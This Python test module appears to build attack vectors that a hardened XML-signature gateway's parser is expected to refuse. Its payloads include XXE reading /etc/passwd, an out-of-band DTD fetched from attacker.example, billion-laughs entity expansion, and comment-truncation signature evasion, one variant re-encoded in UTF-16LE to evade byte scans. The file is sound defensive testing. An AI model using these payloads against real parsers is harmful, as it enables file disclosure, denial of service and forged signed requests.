"""Parse and limit vectors: refused by the hardened parser before anything is canonicalised."""

from __future__ import annotations

from lxml import etree

from gateway.checks import Check
from vectors.catalogue.base import (
    PITFALLS,
    XML,
    after_declaration,
    counter_text,
    replace_once,
    signed_bytes,
    signed_tree,
    without_declaration,
)
from vectors.catalogue.model import PARSE, Vector, VectorContext
from vectors.catalogue.tooling import sign, sr, the_signature, to_bytes

# --- size -------------------------------------------------------------------------


def _padded_to(context: VectorContext, size: int) -> bytes:
    """A signed request grown to ``size`` bytes with whitespace inside ds:Signature (unsigned)."""
    root = signed_tree(context)
    padding = size - len(to_bytes(root))
    if padding < 0:
        raise ValueError("the signed request is already larger than the size asked for")
    the_signature(root)[-1].tail = " " * padding
    data = to_bytes(root)
    if len(data) != size:
        raise ValueError(f"padding produced {len(data)} bytes, not {size}")
    return data


def size_one_over_limit(context: VectorContext) -> bytes:
    return _padded_to(context, context.limits.max_body_bytes + 1)


def size_at_limit(context: VectorContext) -> bytes:
    return _padded_to(context, context.limits.max_body_bytes)


# --- DTDs and entities ----------------------------------------------------------


def doctype(context: VectorContext) -> bytes:
    return after_declaration(signed_bytes(context), b"\n<!DOCTYPE sr:Request>")


def internal_entity(context: VectorContext) -> bytes:
    data = after_declaration(signed_bytes(context), b'\n<!DOCTYPE sr:Request [<!ENTITY c "1000">]>')
    return replace_once(data, counter_text(context), b":&c;<")


def external_entity(context: VectorContext) -> bytes:
    data = after_declaration(
        signed_bytes(context), b'\n<!DOCTYPE sr:Request [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    )
    return replace_once(data, counter_text(context), b":&xxe;<")


def billion_laughs(context: VectorContext) -> bytes:
    entities = [b'<!ENTITY lol0 "lol">']
    for level in range(1, 10):
        refs = f"&lol{level - 1};".encode() * 10
        entities.append(b'<!ENTITY lol%d "%s">' % (level, refs))
    dtd = b"\n<!DOCTYPE sr:Request [" + b"".join(entities) + b"]>"
    return replace_once(after_declaration(signed_bytes(context), dtd), counter_text(context), b":&lol9;<")


def parameter_entity(context: VectorContext) -> bytes:
    dtd = b'\n<!DOCTYPE sr:Request [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>'
    return after_declaration(signed_bytes(context), dtd)


def entity_declaration_without_doctype(context: VectorContext) -> bytes:
    return after_declaration(signed_bytes(context), b'\n<!ENTITY c "1000">')


def undefined_entity_reference(context: VectorContext) -> bytes:
    return replace_once(signed_bytes(context), counter_text(context), b":&counter;<")


# --- comments, processing instructions, CDATA ---------------------------------------


def comment_inside_text(context: VectorContext) -> bytes:
    """``…:10<!---->00``: signature still valid, but ``.text`` would read ``…:10``."""
    counter = str(context.request.counter)
    split = f":{counter[:2]}<!---->{counter[2:]}<".encode()
    return replace_once(signed_bytes(context), counter_text(context), split)


def comment_before_root(context: VectorContext) -> bytes:
    return after_declaration(signed_bytes(context), b"\n<!-- routed by the SRP -->")


def comment_after_root(context: VectorContext) -> bytes:
    return signed_bytes(context) + b"<!-- trailer -->"


def comment_inside_signature(context: VectorContext) -> bytes:
    return replace_once(signed_bytes(context), b"<ds:SignatureValue>", b"<!-- x --><ds:SignatureValue>")


def pi_in_body(context: VectorContext) -> bytes:
    return replace_once(signed_bytes(context), b"<sr:Body>", b'<sr:Body><?evil run="1"?>')


def pi_after_declaration(context: VectorContext) -> bytes:
    return after_declaration(signed_bytes(context), b'\n<?xml-stylesheet type="text/xsl" href="evil.xsl"?>')


def pi_after_root(context: VectorContext) -> bytes:
    return signed_bytes(context) + b"<?evil?>"


def pi_first_without_declaration(context: VectorContext) -> bytes:
    return b'<?xml-stylesheet type="text/xsl" href="evil.xsl"?>\n' + without_declaration(signed_bytes(context))


def cdata_in_text(context: VectorContext) -> bytes:
    counter = str(context.request.counter).encode()
    return replace_once(signed_bytes(context), counter_text(context), b":<![CDATA[" + counter + b"]]><")


# --- encodings ----------------------------------------------------------------------


def _declaring(data: bytes, encoding: str) -> bytes:
    return replace_once(data, b"encoding='UTF-8'", f"encoding='{encoding}'".encode())


def declared_utf16_but_utf8(context: VectorContext) -> bytes:
    return _declaring(signed_bytes(context), "UTF-16")


def declared_latin1(context: VectorContext) -> bytes:
    return _declaring(signed_bytes(context), "ISO-8859-1")


def utf16_with_bom(context: VectorContext) -> bytes:
    return _declaring(signed_bytes(context), "UTF-16").decode("utf-8").encode("utf-16")


def utf16le_without_bom(context: VectorContext) -> bytes:
    return _declaring(signed_bytes(context), "UTF-16").decode("utf-8").encode("utf-16-le")


def utf32le_without_bom(context: VectorContext) -> bytes:
    return _declaring(signed_bytes(context), "UTF-32").decode("utf-8").encode("utf-32-le")


def utf16le_comment_inside_text(context: VectorContext) -> bytes:
    """The comment-truncation attack, in UTF-16LE so that no byte reads ``<!--``."""
    return _declaring(comment_inside_text(context), "UTF-16").decode("utf-8").encode("utf-16-le")


def invalid_utf8(context: VectorContext) -> bytes:
    counter = str(context.request.counter).encode()
    return replace_once(signed_bytes(context), counter_text(context), b":" + counter + b"\xff<")


# --- structural limits ----------------------------------------------------------------


def _nest_until(parent: etree._Element, depth: int) -> None:
    """Nests ``sr:Nest`` under ``parent`` until an element sits at ``depth`` (root = 1)."""
    level = len(list(parent.iterancestors())) + 1
    element = parent
    while level < depth:
        element = etree.SubElement(element, sr("Nest"))
        level += 1


def too_deep(context: VectorContext) -> bytes:
    def edit(root: etree._Element) -> None:
        _nest_until(_credit(root), context.limits.max_depth + 1)

    return signed_bytes(context, edit=edit)


def too_many_elements(context: VectorContext) -> bytes:
    root = signed_tree(context)
    credit = _credit(root)
    missing = context.limits.max_elements + 1 - sum(1 for _ in root.iter())
    for _ in range(missing):
        etree.SubElement(credit, sr("Item"))
    return to_bytes(sign(root, context.signer))


def too_many_attributes(context: VectorContext) -> bytes:
    def edit(root: etree._Element) -> None:
        header = _child(root, "Header")
        for index in range(context.limits.max_attributes_per_element + 1):
            header.set(f"a{index}", "x")

    return signed_bytes(context, edit=edit)


def relative_namespace_uri(context: VectorContext) -> bytes:
    return replace_once(signed_bytes(context), b"<sr:Request ", b'<sr:Request xmlns:zz="relative" ')


def too_many_namespaces(context: VectorContext) -> bytes:
    data = signed_bytes(context)
    present = data.count(b"xmlns")
    extra = b"".join(
        b' xmlns:n%d="urn:n%d"' % (index, index)
        for index in range(context.limits.max_namespace_declarations + 1 - present)
    )
    return replace_once(data, b"<sr:Request ", b"<sr:Request" + extra + b" ")


# --- not well-formed ------------------------------------------------------------------


def mismatched_end_tag(context: VectorContext) -> bytes:
    return replace_once(signed_bytes(context), b"</sr:Header>", b"</sr:Headr>")


def trailing_garbage(context: VectorContext) -> bytes:
    return signed_bytes(context) + b"garbage"


def second_root_element(context: VectorContext) -> bytes:
    return signed_bytes(context) + b'<Request xmlns="http://www.dccinterface.co.uk/ServiceUserGateway"/>'


def malformed_declaration(context: VectorContext) -> bytes:
    return replace_once(signed_bytes(context), b"encoding='UTF-8'", b"encoding=UTF-8")


def nul_character_reference(context: VectorContext) -> bytes:
    counter = str(context.request.counter).encode()
    return replace_once(signed_bytes(context), counter_text(context), b":" + counter + b"&#0;<")


def _child(root: etree._Element, path: str) -> etree._Element:
    """An element by sr local names under the root, e.g. ``Body/UpdatePaymentMode``."""
    found = root.find("/".join(sr(local) for local in path.split("/")))
    if found is None:
        raise ValueError(f"sr:{path} not found in the request")
    return found


def _credit(root: etree._Element) -> etree._Element:
    return _child(root, "Body/UpdatePaymentMode/Credit")


PARSE_VECTORS: tuple[Vector, ...] = (
    Vector(
        "size-limit-one-byte-over",
        PARSE,
        "A valid signed request padded (inside ds:Signature) to max_body_bytes + 1.",
        "SPEC §5 (413); STYLE.md (limits at ingress); gateway/parse.py Limits.max_body_bytes",
        size_one_over_limit,
        Check.SIZE_LIMIT.check_id,
    ),
    Vector(
        "size-limit-exactly-at-limit",
        PARSE,
        "The same request padded to exactly max_body_bytes: the limit is inclusive, so it must be accepted.",
        "gateway/parse.py Limits.max_body_bytes",
        size_at_limit,
        None,
    ),
    Vector(
        "dtd-doctype",
        PARSE,
        "A bare <!DOCTYPE> before the root.",
        f"{XML} §2.8; SPEC §5 (DTD → 400)",
        doctype,
        Check.DTD.check_id,
    ),
    Vector(
        "dtd-internal-entity",
        PARSE,
        "An internal entity standing for the counter: the signed text would differ from the bytes sent.",
        f"{XML} §4.2; SPEC §5",
        internal_entity,
        Check.DTD.check_id,
    ),
    Vector(
        "dtd-external-entity-xxe",
        PARSE,
        "XXE: an external entity SYSTEM file:///etc/passwd referenced from the RequestID.",
        "CWE-611 (XXE); OWASP XML External Entity Prevention Cheat Sheet; SPEC §5",
        external_entity,
        Check.DTD.check_id,
    ),
    Vector(
        "dtd-billion-laughs",
        PARSE,
        "Ten levels of ten-fold entity expansion (10^9 'lol's).",
        f"CVE-2003-1564 (billion laughs); {PITFALLS} (xmlsec1 crashes on it)",
        billion_laughs,
        Check.DTD.check_id,
    ),
    Vector(
        "dtd-parameter-entity",
        PARSE,
        "A parameter entity pulling an external DTD subset (out-of-band XXE).",
        f"{XML} §4.1 (PEReference); CWE-611",
        parameter_entity,
        Check.DTD.check_id,
    ),
    Vector(
        "entity-declaration-without-doctype",
        PARSE,
        "An <!ENTITY> declaration outside any DOCTYPE.",
        f"{XML} §4.2; gateway/parse.py _refuse_markup",
        entity_declaration_without_doctype,
        Check.ENTITY.check_id,
    ),
    Vector(
        "entity-undefined-reference",
        PARSE,
        "&counter; in the RequestID with no declaration.",
        f"{XML} §4.1 (WFC: Entity Declared)",
        undefined_entity_reference,
        Check.ENTITY.check_id,
    ),
    Vector(
        "comment-inside-text-node",
        PARSE,
        "'…:10<!---->00' in the RequestID: C14N without comments keeps the signature valid, but a naive "
        ".text reads '…:10'.",
        f"{PITFALLS}; CVE-2017-11427 (SAML comment truncation)",
        comment_inside_text,
        Check.COMMENT.check_id,
    ),
    Vector(
        "comment-before-root",
        PARSE,
        "A comment in the prolog (outside the root: never where DUIS puts its NOTE comments).",
        PITFALLS,
        comment_before_root,
        Check.COMMENT.check_id,
    ),
    Vector(
        "comment-after-root",
        PARSE,
        "A comment after the root element (outside the signed content).",
        PITFALLS,
        comment_after_root,
        Check.COMMENT.check_id,
    ),
    Vector(
        "comment-inside-signature",
        PARSE,
        "A comment between ds:SignedInfo and ds:SignatureValue.",
        PITFALLS,
        comment_inside_signature,
        Check.COMMENT.check_id,
    ),
    Vector(
        "pi-inside-body",
        PARSE,
        "A processing instruction as the first node of sr:Body.",
        f"{XML} §2.6; SPEC §5",
        pi_in_body,
        Check.PROCESSING_INSTRUCTION.check_id,
    ),
    Vector(
        "pi-after-declaration",
        PARSE,
        "An xml-stylesheet processing instruction between the declaration and the root.",
        f"{XML} §2.6",
        pi_after_declaration,
        Check.PROCESSING_INSTRUCTION.check_id,
    ),
    Vector(
        "pi-after-root",
        PARSE,
        "A processing instruction after the root element.",
        f"{XML} §2.6",
        pi_after_root,
        Check.PROCESSING_INSTRUCTION.check_id,
    ),
    Vector(
        "pi-first-without-declaration",
        PARSE,
        "An xml-stylesheet processing instruction at offset 0 (no XML declaration).",
        f"{XML} §2.6, §2.8 (a PI may precede the root when there is no declaration)",
        pi_first_without_declaration,
        Check.PROCESSING_INSTRUCTION.check_id,
    ),
    Vector(
        "cdata-in-text",
        PARSE,
        "The counter wrapped in a CDATA section.",
        f"{XML} §2.7; gateway/parse.py (DUIS uses no CDATA)",
        cdata_in_text,
        Check.CDATA.check_id,
    ),
    Vector(
        "encoding-declared-utf16-content-utf8",
        PARSE,
        "UTF-8 bytes under encoding='UTF-16'.",
        f"{XML} §4.3.3; SPEC §5 (415)",
        declared_utf16_but_utf8,
        Check.ENCODING.check_id,
    ),
    Vector(
        "encoding-declared-latin1",
        PARSE,
        "encoding='ISO-8859-1' declared.",
        f"{XML} §4.3.3; SPEC §5 (415)",
        declared_latin1,
        Check.ENCODING.check_id,
    ),
    Vector(
        "encoding-utf16-with-bom",
        PARSE,
        "The whole request in UTF-16 with a byte-order mark.",
        f"{XML} §4.3.3, Appendix F; SPEC §5 (415)",
        utf16_with_bom,
        Check.ENCODING.check_id,
    ),
    Vector(
        "encoding-utf16le-without-bom",
        PARSE,
        "The whole request in UTF-16LE with a declaration and no BOM (libxml2 detects it from '<\\0?\\0'). "
        "Byte-level refusals (<!, xmlns count) do not see ASCII patterns in it.",
        f"{XML} Appendix F.1 (detection without BOM); SPEC §5 (415)",
        utf16le_without_bom,
        Check.ENCODING.check_id,
    ),
    Vector(
        "encoding-utf16le-comment-inside-text",
        PARSE,
        "comment-inside-text-node sent as UTF-16LE without a BOM: byte scans for '<!--' see nothing. If "
        "accepted, verification returns a RequestID counter other than the one signed.",
        f"{PITFALLS}; CVE-2017-11427; {XML} Appendix F.1",
        utf16le_comment_inside_text,
        Check.ENCODING.check_id,
    ),
    Vector(
        "encoding-utf32le-without-bom",
        PARSE,
        "The whole request in UTF-32LE with a declaration and no BOM.",
        f"{XML} Appendix F.1; SPEC §5 (415)",
        utf32le_without_bom,
        Check.ENCODING.check_id,
    ),
    Vector(
        "encoding-invalid-utf8-bytes",
        PARSE,
        "A 0xFF byte inside the RequestID text.",
        "RFC 3629 §3 (0xFF never appears in UTF-8); gateway/parse.py _syntax_error",
        invalid_utf8,
        Check.ENCODING.check_id,
    ),
    Vector(
        "depth-limit-one-over",
        PARSE,
        "Elements nested to max_depth + 1 inside the signed body.",
        "gateway/parse.py Limits.max_depth; STYLE.md (limits before canonicalising)",
        too_deep,
        Check.DEPTH_LIMIT.check_id,
    ),
    Vector(
        "element-limit-one-over",
        PARSE,
        "max_elements + 1 elements in a signed request.",
        "gateway/parse.py Limits.max_elements",
        too_many_elements,
        Check.ELEMENT_LIMIT.check_id,
    ),
    Vector(
        "attribute-limit-one-over",
        PARSE,
        "max_attributes_per_element + 1 attributes on sr:Header (c14n cost is quadratic in them).",
        f"{PITFALLS} (exc-c14n quadratic in attributes); gateway/parse.py",
        too_many_attributes,
        Check.ATTRIBUTE_LIMIT.check_id,
    ),
    Vector(
        "namespace-limit-one-over",
        PARSE,
        "max_namespace_declarations + 1 xmlns declarations on the root.",
        "gateway/parse.py Limits.max_namespace_declarations",
        too_many_namespaces,
        Check.NAMESPACE_LIMIT.check_id,
    ),
    Vector(
        "namespace-uri-relative",
        PARSE,
        "A relative namespace URI on the root: C14N leaves it undefined (libxml2 refuses to canonicalise). "
        "Found by bench/fuzz_campaign.py: it once surfaced as a 500.",
        "W3C XML-C14N 1.0 §2.1 (relative namespace URIs); gateway/verify/canonical.py",
        relative_namespace_uri,
        Check.NAMESPACE_URI.check_id,
    ),
    Vector(
        "not-well-formed-mismatched-tag",
        PARSE,
        "</sr:Headr> closes sr:Header.",
        f"{XML} §3 (WFC: Element Type Match)",
        mismatched_end_tag,
        Check.NOT_WELL_FORMED.check_id,
    ),
    Vector(
        "not-well-formed-trailing-garbage",
        PARSE,
        "Text after the root element's end tag.",
        f"{XML} §2.1 (document ::= prolog element Misc*)",
        trailing_garbage,
        Check.NOT_WELL_FORMED.check_id,
    ),
    Vector(
        "not-well-formed-second-root",
        PARSE,
        "A second sr:Request root after the signed one.",
        f"{XML} §2.1",
        second_root_element,
        Check.NOT_WELL_FORMED.check_id,
    ),
    Vector(
        "not-well-formed-declaration",
        PARSE,
        "encoding=UTF-8 without quotes in the XML declaration.",
        f"{XML} §2.8, §4.3.3",
        malformed_declaration,
        Check.NOT_WELL_FORMED.check_id,
    ),
    Vector(
        "not-well-formed-nul-character-reference",
        PARSE,
        "&#0; in the RequestID (not a legal XML character).",
        f"{XML} §2.2, §4.1 (WFC: Legal Character)",
        nul_character_reference,
        Check.NOT_WELL_FORMED.check_id,
    ),
)
